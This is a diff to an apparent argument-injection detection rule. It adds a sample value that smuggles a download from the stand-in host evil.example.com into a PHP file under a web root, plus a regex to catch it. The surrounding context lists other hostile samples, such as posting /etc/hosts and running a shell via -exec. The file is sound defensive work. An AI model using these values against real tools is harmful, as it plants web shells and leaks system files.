@@ -60,6 +60,7 @@ export const optionInjection: ValueRule = {
     '--data-binary @/etc/hosts',
     '-exec sh x.sh {} ;',
     '--output=/srv/www/a.php',
+    '--output=/srv/www/a.php http://evil.example.com/a.txt',
     '-O/srv/www/a.jsp',
   ],
   lookalikes: [
@@ -108,6 +109,7 @@ const forms: readonly RegExp[] = [
   /(^\s{0,4}|["'] )-[oO] ?\/[\w./-]{2,120}\s{1,4}(?:https?|ftp):\/\/\S{4,80}/,
   /^(\s{0,4})(?:https?|ftp):\/\/\S{4,200}\s{1,4}-[oO] ?\/[\w./-]{2,120}/,
   /(^\s{0,4}|["'] )(?:-[oO] ?|--output(?:-document|-file)?[= ])\/[\w./-]{1,120}\.(?:php\d?|phtml|phar|jspx?|aspx?|ashx|cgi)[\s"';]{0,4}$/,
+  /(^\s{0,4})--output(?:-document|-file)?[= ]\/[\w./-]{1,120}\.\w{2,5}\s{1,4}(?:https?|ftp):\/\/\S{4,80}/,
   /(^|\s)-O(?:QueueDirectory|ProgramMailer|[A-Z][A-Za-z]{4,24})=\/\w{1,40}/,
   /(^|\s)-X ?\/[\w./-]{2,120}\.(?:php\d?|phtml|jsp|aspx?|cgi)\b/,
   /(^|\s)(?:-d|-T|--data(?:-binary|-ascii|-raw)?|--upload-file|-F \w{1,20}=)[ =]?@?\/(?:etc|proc|root|home|var)\/[\w./-]{2,80}/,
